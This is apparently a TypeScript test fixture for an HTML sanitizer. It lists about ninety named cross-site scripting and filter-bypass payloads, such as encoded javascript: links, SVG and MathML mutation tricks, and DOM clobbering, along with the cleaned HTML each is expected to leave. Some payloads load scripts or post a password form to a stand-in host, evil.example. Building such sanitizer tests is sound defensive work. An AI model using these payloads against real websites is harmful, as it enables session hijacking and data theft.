import type { RichTextKind } from './rich-text.ts'

/** A known way to get past a filter of HTML. */
export interface Attack {
  readonly name: string
  readonly html: string
}

const deep = (times: number, tag: string) => `<${tag}>`.repeat(times)

/** Known bypasses, by their kind: each is to leave text, or nothing. */
export const attacks: readonly Attack[] = [
  { name: 'a script', html: '<p>a<script>hacked()</script>b' },
  { name: 'a script in pieces', html: '<scr<script>ipt>hacked()</scr</script>ipt>' },
  { name: 'a script without an end', html: 'a<script>hacked()' },
  {
    name: 'a script behind an end of itself',
    html: '</script><script src="//evil.example/x.js"></script>b',
  },
  {
    name: 'a script with a comment in it',
    html: '<script><!--<script></script>--></script><b>b</b>',
  },
  {
    name: 'a handler of an event',
    html: '<p onclick="hacked()">a</p><b onmouseover=hacked()>b</b>',
  },
  { name: 'a handler behind a slash', html: '<img/src="x"/onerror=hacked()>a' },
  { name: 'a handler of a body', html: 'a<body onload=hacked()>b' },
  { name: 'a picture that fails', html: '<img src=x onerror=hacked()>a' },
  { name: 'a picture of another site', html: '<img src="https://evil.example/pixel.gif">a' },
  {
    name: 'a picture in the address itself',
    html: '<img src="data:image/svg+xml,<svg onload=hacked()>">a',
  },
  { name: 'a picture beside our own files', html: '<img src="/api/files/../logout">a' },
  {
    name: 'sets of pictures',
    html: '<img srcset="https://evil.example/1 2x" src="">a<picture><source srcset=//evil.example/2></picture>',
  },
  {
    name: 'a film and a sound',
    html: '<video src=x onerror=hacked()><source onerror=hacked()></video><audio src=x onerror=hacked()>a</audio>b',
  },
  {
    name: 'a frame',
    html: '<iframe srcdoc="<script>hacked()</script>"></iframe><iframe src="javascript:hacked()">a</iframe>b',
  },
  {
    name: 'a page of frames',
    html: '<frameset onload=hacked()><frame src="javascript:hacked()"></frameset>',
  },
  {
    name: 'objects',
    html: '<object data="javascript:hacked()">a</object><embed src="javascript:hacked()"><applet code=x>b</applet>c',
  },
  {
    name: 'a base and a meta',
    html: '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:hacked()">a',
  },
  {
    name: 'a style',
    html: '<style>body{background:url(//evil.example)}</style><p style="position:fixed;inset:0">a</p><link rel=stylesheet href=//evil.example>',
  },
  {
    name: 'a class and an id',
    html: '<p class="dialog" id="root" name="x" data-flow="session">a</p>',
  },
  {
    name: 'a form',
    html: '<form action="https://evil.example"><input name=password><button formaction="javascript:hacked()">Send</button>a</form>',
  },
  { name: 'a form within a form', html: '<form><div></form><form id=b><input name=x>a</div>b' },
  { name: 'a link of JavaScript', html: '<a href="javascript:hacked()">a</a>' },
  { name: 'a link in other letters', html: '<a href="JaVaScRiPt:hacked()">a</a>' },
  { name: 'a link with a tab and lines', html: '<a href="java\tscr\nipt\r:hacked()">a</a>' },
  {
    name: 'a link with written tabs',
    html: '<a href="jav&#x09;ascript&Tab;:hacked()">a</a><a href="java&NewLine;script:hacked()">b</a>',
  },
  {
    name: 'a link with control characters',
    html: '<a href="&#1;javascript:hacked()">a</a><a href="java\u0000script:hacked()">b</a><a href=" &#14;  javascript:hacked()">c</a>',
  },
  {
    name: 'a link in written characters',
    html: '<a href="&#106;&#97;vascript&colon;hacked&lpar;&rpar;">a</a><a href="&#0000106avascript:hacked()">b</a><a href="&#x6A&#x61vascript:hacked()">c</a>',
  },
  {
    name: 'a link with an unseen character',
    html: '<a href="\ufeffjavascript:hacked()">a</a><a href="\u200bjavascript:hacked()">b</a><a href="java\u00adscript:hacked()">c</a>',
  },
  {
    name: 'links of other kinds',
    html: '<a href="data:text/html,<script>hacked()</script>">a</a><a href="vbscript:hacked()">b</a><a href="blob:https://porras.example/x">c</a><a href="file:///etc/passwd">d</a><a href="view-source:x">e</a><a href="about:blank">f</a>',
  },
  {
    name: 'a link without a scheme',
    html: '<a href="//evil.example">a</a><a href="\\\\evil.example">b</a><a href="/\\evil.example">c</a><a href="https:evil.example">d</a><a href="/logout">e</a><a href="#x">f</a><a href="">g</a><a>h</a>',
  },
  {
    name: 'a link with a name and a password',
    html: '<a href="https://porras.example@evil.example/">a</a><a href="https://a:b@evil.example">b</a><a href="https://porras.example\\@evil.example">c</a>',
  },
  {
    name: 'a link that is too long',
    html: `<a href="https://evil.example/${'a'.repeat(2048)}">a</a>`,
  },
  {
    name: 'a link with quotation marks',
    html: `<a href='https://a.example/"onmouseover="hacked()'>a</a><a href="https://a.example/'onclick='x">b</a>`,
  },
  {
    name: 'a link that opens by itself',
    html: '<a href="https://a.example" target=_blank rel=opener download ping=//evil.example onclick=hacked() autofocus onfocus=hacked() tabindex=1>a</a>',
  },
  {
    name: 'a link with two addresses',
    html: '<a href="https://a.example/1" href="javascript:hacked()">a</a><a xlink:href="javascript:hacked()">b</a>',
  },
  {
    name: 'a link in a link',
    html: '<a href="https://a.example/1">a<a href="javascript:hacked()">b</a><table><tr><td><a href="https://a.example/2">c</a></table></a>',
  },
  {
    name: 'a mail and a phone that are none',
    html: '<a href="mailto:a@b.example?body=x%0D%0Ay">a</a><a href="mailto:">b</a><a href="tel:javascript">c</a><a href="tel:*21*112%23">d</a>',
  },
  { name: 'a drawing', html: '<svg onload=hacked()><text>a</text></svg>b' },
  {
    name: 'a drawing with a script',
    html: '<svg><script>hacked()</script><a xlink:href="javascript:hacked()"><text>a</text></a></svg>b',
  },
  {
    name: 'a drawing with HTML',
    html: '<svg><foreignObject><p>a<script>hacked()</script></p></foreignObject><desc><b>b</b></desc><title><img src=x onerror=hacked()></title></svg>c',
  },
  {
    name: 'a drawing that ends in a style',
    html: '<svg><style><img src=x onerror=hacked()></style></svg>a',
  },
  {
    name: 'a drawing that animates',
    html: '<svg><a><animate attributeName=href values=javascript:hacked() /><text x=20 y=20>a</text></a></svg>b<svg><use href="data:image/svg+xml,x#x"></use></svg>',
  },
  {
    name: 'a drawing left by a paragraph',
    html: '<svg></p><style><a id="</style><img src=1 onerror=hacked()>">',
  },
  {
    name: 'a formula',
    html: '<math><mtext><b>a</b></mtext><maction actiontype="statusline#http://x" xlink:href="javascript:hacked()">b</maction></math>c',
  },
  {
    name: 'a formula that becomes HTML',
    html: '<math><mtext><table><mglyph><style><math href=javascript:hacked()>a</math></style></mglyph></table></mtext></math>b',
  },
  {
    name: 'a form in a formula',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>',
  },
  {
    name: 'a formula with a comment in a style',
    html: '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;">',
  },
  {
    name: 'a formula with HTML inside',
    html: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hacked()></style><p>a</p></annotation-xml></math>b',
  },
  {
    name: 'a formula with text that ends it',
    html: '<math><mi//xlink:href="data:x,<script>hacked()</script>"><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=hacked()>">',
  },
  {
    name: 'a noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=hacked()>">a</noscript>b',
  },
  {
    name: 'a noscript in the body',
    html: '<p>a</p><noscript><p title="</noscript><img src=x onerror=hacked()>">b</p></noscript>c',
  },
  {
    name: 'a noscript in the head',
    html: '<head><noscript><style></noscript><img src=x onerror=hacked()></style></noscript></head>a',
  },
  {
    name: 'a template',
    html: '<template><script>hacked()</script><p>a</p></template>b<template shadowrootmode=open><img src=x onerror=hacked()></template>',
  },
  {
    name: 'old raw text',
    html: '<xmp><p title="</xmp><img src=x onerror=hacked()>">a</xmp>b<listing>&lt;img src=x onerror=hacked()&gt;</listing>',
  },
  {
    name: 'raw text of frames',
    html: '<noembed><img title="</noembed><img src=x onerror=hacked()>"></noembed><noframes><b title="</noframes><img src=x onerror=hacked()>"></noframes>a',
  },
  { name: 'a plain text', html: 'a<plaintext><script>hacked()</script></plaintext>b' },
  {
    name: 'a text field and a title',
    html: '<textarea><img title="</textarea><img src=x onerror=hacked()>"></textarea><title><a title="</title><img src=x onerror=hacked()>"></title>a',
  },
  {
    name: 'a choice',
    html: '<select><option>a</option><script>hacked()</script></select>b<select><template><script>hacked()</script></template></select>c',
  },
  {
    name: 'comments',
    html: 'a<!-- <script>hacked()</script> -->b<!--><img src=x onerror=hacked()>-->c<!---><b>d</b>--><!--!><img src=x onerror=hacked()>-->e',
  },
  {
    name: 'a comment that ends otherwise',
    html: 'a<!-- --!><img src=x onerror=hacked()>b<!-- unended <img src=x onerror=hacked()>',
  },
  {
    name: 'a bogus comment',
    html: 'a<?xml <img src=x onerror=hacked()>?>b<!doctype x [<!entity y "z">]>c</ script>d<%25 x %25>e',
  },
  {
    name: 'character data',
    html: 'a<![CDATA[<img src=x onerror=hacked()>]]>b<svg><![CDATA[<img src=x onerror=hacked()>]]></svg>c',
  },
  {
    name: 'quotation marks that do not end',
    html: '<p title="a><img src=x onerror=hacked()>b</p><p title=\'">c</p>',
  },
  {
    name: 'quotation marks of another kind',
    html: '<p title=`a><img src=x onerror=hacked()>`>b</p>',
  },
  {
    name: 'attributes without spaces',
    html: '<a href="https://a.example"onclick="hacked()"style=x>a</a><p/onclick=hacked()/>b',
  },
  {
    name: 'written brackets',
    html: '&lt;script&gt;hacked()&lt;/script&gt;&amp;lt;img src=x onerror=hacked()&amp;gt;',
  },
  {
    name: 'brackets of other widths',
    html: '\uff1cscript\uff1ehacked()\uff1c/script\uff1e \u2039img\u203a +ADw-script+AD4-',
  },
  {
    name: 'half characters and zero bytes',
    html: 'a\ud800b\udfffc\u0000d<scr\u0000ipt>e</scr\u0000ipt>&#xD800;f&#0;g',
  },
  { name: 'text that is turned around', html: 'a\u202egpj.exe\u202c b\u2066c\u2069\u200bd' },
  { name: 'unseen characters of lines', html: 'a\u2028b\u2029c\u0085d\u000be\u000cf' },
  {
    name: 'names that replace properties',
    html: '<form><input name=childNodes><input name=attributes><input name=namespaceURI><input name=localName><input name=getAttribute><input name=nodeType>a</form>b',
  },
  {
    name: 'names that replace the body',
    html: '<img name=body><form name=body><input name=firstChild></form><a id=documentElement href="https://a.example">a</a>',
  },
  {
    name: 'elements named like properties',
    html: '<constructor>a</constructor><__proto__>b</__proto__><toString>c</toString><hasOwnProperty>d</hasOwnProperty>',
  },
  {
    name: 'elements of our own',
    html: '<my-widget onload=hacked()>a</my-widget><x-y is="x">b</x-y><blink>c</blink><marquee onstart=hacked()>d</marquee>',
  },
  {
    name: 'a dialog, a menu and details',
    html: '<dialog open>a</dialog><details open ontoggle=hacked()><summary>b</summary>c</details><menu><li onclick=hacked()>d</menu>',
  },
  {
    name: 'popovers and commands',
    html: '<button popovertarget=x command=show-popover>a</button><div id=x popover onbeforetoggle=hacked()>b</div><p contenteditable autofocus onfocus=hacked()>c</p>',
  },
  {
    name: 'a table that pushes content out',
    html: '<table><b>a<tr><td>b<script>hacked()</script></td></b><img src=x onerror=hacked()>c</table>',
  },
  {
    name: 'tables in tables',
    html: '<table><tr><td><table><caption>a</caption><tr><th onclick=hacked()>b<td background="javascript:hacked()">c</table>d',
  },
  {
    name: 'lists in lists',
    html: '<ul>a<li>b<ul><li>c<script>hacked()</script></ul><ol>d</ol></ul><li>e',
  },
  {
    name: 'formatting that overlaps',
    html: '<b>a<p>b<i>c</b>d</p>e</i><a href="https://a.example">f<p>g</a>h</p>',
  },
  { name: 'formatting a hundred times', html: `${deep(90, 'b')}a` },
  {
    name: 'a head after the body',
    html: '</body></html><head><script>hacked()</script></head><p>a</p><title>b</title>',
  },
  {
    name: 'a heading with everything',
    html: '<h1 onclick=hacked()>a<img src=x onerror=hacked()><ul><li>b</ul></h1><h7>c</h7>',
  },
  {
    name: 'a figure with everything',
    html: '<figure onclick=hacked()><script>hacked()</script><img src="javascript:hacked()"><figcaption>a<svg onload=hacked()></figcaption></figure>',
  },
  {
    name: 'a portal and a fenced frame',
    html: '<portal src="javascript:hacked()"></portal><fencedframe>a</fencedframe><webview src=x>b</webview><isindex action=javascript:hacked() type=image>',
  },
]

/**
 * The text that is left of each attack, without the `rel` of its links; of a bulletin where it
 * differs.
 */
const harmless: Readonly<Record<string, { readonly message: string; readonly bulletin?: string }>> =
  {
    'a script': { message: '<p>ab</p>' },
    'a script in pieces': { message: '<p>ipt&#62;hacked()ipt&#62;</p>' },
    'a script without an end': { message: '<p>a</p>' },
    'a script behind an end of itself': { message: '<p>b</p>' },
    'a script with a comment in it': { message: '<p><strong>b</strong></p>' },
    'a handler of an event': { message: '<p>a</p><p><strong>b</strong></p>' },
    'a handler behind a slash': { message: '<p>a</p>' },
    'a handler of a body': { message: '<p>ab</p>' },
    'a picture that fails': { message: '<p>a</p>' },
    'a picture of another site': { message: '<p>a</p>' },
    'a picture in the address itself': { message: '<p>a</p>' },
    'a picture beside our own files': { message: '<p>a</p>' },
    'sets of pictures': { message: '<p>a</p>' },
    'a film and a sound': { message: '<p>b</p>' },
    'a frame': { message: '<p>b</p>' },
    'a page of frames': { message: '' },
    objects: { message: '<p>c</p>' },
    'a base and a meta': { message: '<p>a</p>' },
    'a style': { message: '<p>a</p>' },
    'a class and an id': { message: '<p>a</p>' },
    'a form': { message: '<p>a</p>' },
    'a form within a form': { message: '<p>a</p><p>b</p>' },
    'a link of JavaScript': { message: '<p>a</p>' },
    'a link in other letters': { message: '<p>a</p>' },
    'a link with a tab and lines': { message: '<p>a</p>' },
    'a link with written tabs': { message: '<p>ab</p>' },
    'a link with control characters': { message: '<p>abc</p>' },
    'a link in written characters': { message: '<p>abc</p>' },
    'a link with an unseen character': { message: '<p>abc</p>' },
    'links of other kinds': { message: '<p>abcdef</p>' },
    'a link without a scheme': { message: '<p>abcdefgh</p>' },
    'a link with a name and a password': { message: '<p>abc</p>' },
    'a link that is too long': { message: '<p>a</p>' },
    'a link with quotation marks': {
      message: '<p>a<a href="https://a.example/&#39;onclick=&#39;x">b</a></p>',
    },
    'a link that opens by itself': { message: '<p><a href="https://a.example">a</a></p>' },
    'a link with two addresses': { message: '<p><a href="https://a.example/1">a</a>b</p>' },
    'a link in a link': {
      message:
        '<p><a href="https://a.example/1">a</a>b</p><p><a href="https://a.example/2">c</a></p>',
      bulletin:
        '<p><a href="https://a.example/1">a</a>b</p><table><tbody><tr><td><a href="https://a.example/2">c</a></td></tr></tbody></table>',
    },
    'a mail and a phone that are none': {
      message: '<p><a href="mailto:a@b.example?body=x%0D%0Ay">a</a>bcd</p>',
    },
    'a drawing': { message: '<p>b</p>' },
    'a drawing with a script': { message: '<p>b</p>' },
    'a drawing with HTML': { message: '<p>c</p>' },
    'a drawing that ends in a style': { message: '<p>a</p>' },
    'a drawing that animates': { message: '<p>b</p>' },
    'a drawing left by a paragraph': { message: '<p>&#34;&#62;</p>' },
    'a formula': { message: '<p>c</p>' },
    'a formula that becomes HTML': { message: '<p>b</p>' },
    'a form in a formula': { message: '' },
    'a formula with a comment in a style': { message: '' },
    'a formula with HTML inside': { message: '<p>b</p>' },
    'a formula with text that ends it': { message: '' },
    'a noscript': { message: '<p>ab</p>' },
    'a noscript in the body': { message: '<p>a</p><p>c</p>' },
    'a noscript in the head': { message: '<p>a</p>' },
    'a template': { message: '<p>b</p>' },
    'old raw text': { message: '<p>&#34;&#62;ab</p><p>&#60;img src=x onerror=hacked()&#62;</p>' },
    'raw text of frames': { message: '<p>&#34;&#62;&#34;&#62;a</p>' },
    'a plain text': { message: '<p>a</p>' },
    'a text field and a title': { message: '<p>&#34;&#62;&#34;&#62;a</p>' },
    'a choice': { message: '<p>bc</p>' },
    comments: { message: '<p>ab--&#62;c<strong>d</strong>--&#62;e</p>' },
    'a comment that ends otherwise': { message: '<p>ab</p>' },
    'a bogus comment': { message: '<p>a?&#62;b]&#62;cd&#60;%25 x %25&#62;e</p>' },
    'character data': { message: '<p>a]]&#62;bc</p>' },
    'quotation marks that do not end': { message: '<p>c</p>' },
    'quotation marks of another kind': { message: '<p>`&#62;b</p>' },
    'attributes without spaces': { message: '<p><a href="https://a.example">a</a></p><p>b</p>' },
    'written brackets': {
      message:
        '<p>&#60;script&#62;hacked()&#60;/script&#62;&#38;lt;img src=x onerror=hacked()&#38;gt;</p>',
    },
    'brackets of other widths': {
      message: '<p>＜script＞hacked()＜/script＞ ‹img› +ADw-script+AD4-</p>',
    },
    'half characters and zero bytes': { message: '<p>a�b�c�de�f�g</p>' },
    'text that is turned around': { message: '<p>agpj.exe bcd</p>' },
    'unseen characters of lines': { message: '<p>a b c d e f</p>' },
    'names that replace properties': { message: '<p>a</p><p>b</p>' },
    'names that replace the body': { message: '<p><a href="https://a.example">a</a></p>' },
    'elements named like properties': { message: '<p>a&#60;__proto__&#62;bcd</p>' },
    'elements of our own': { message: '<p>abcd</p>' },
    'a dialog, a menu and details': { message: '<p>b</p><p>c</p><p>d</p>' },
    'popovers and commands': { message: '<p>b</p><p>c</p>' },
    'a table that pushes content out': {
      message: '<p><strong>a</strong>c</p><p>b</p>',
      bulletin: '<p><strong>a</strong>c</p><table><tbody><tr><td>b</td></tr></tbody></table>',
    },
    'tables in tables': {
      message: '<p>a</p><p>b</p><p>c</p><p>d</p>',
      bulletin: '<table><tbody><tr><td>a<br>b<br>c<br>d</td></tr></tbody></table>',
    },
    'lists in lists': {
      message:
        '<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul><ol><li><p>d</p></li></ol></li></ul><p>e</p>',
    },
    'formatting that overlaps': {
      message:
        '<p><strong>a</strong></p><p><strong>b</strong><strong><em>c</em></strong><em>d</em></p><p><em>e</em><a href="https://a.example">f</a></p><p><a href="https://a.example">g</a>h</p>',
    },
    'formatting a hundred times': { message: '<p><strong>a</strong></p>' },
    'a head after the body': { message: '<p>a</p>' },
    'a heading with everything': {
      message: '<p><strong>a</strong></p><ul><li><p><strong>b</strong></p></li></ul><p>c</p>',
      bulletin: '<h2>a<br>b</h2><p>c</p>',
    },
    'a figure with everything': { message: '<p>a</p>' },
    'a portal and a fenced frame': { message: '<p>ab</p>' },
  }

/** Returns the HTML that is stored in place of an attack. */
export function storedHtmlOfAttack({ name }: Attack, kind: RichTextKind): string {
  const left = harmless[name]
  if (!left) throw new Error(`It is not said what is left of ${name}`)
  const html = kind === 'bulletin' ? (left.bulletin ?? left.message) : left.message
  return html.replaceAll(/<a href="[^"]*"/g, '$& rel="noopener noreferrer"')
}
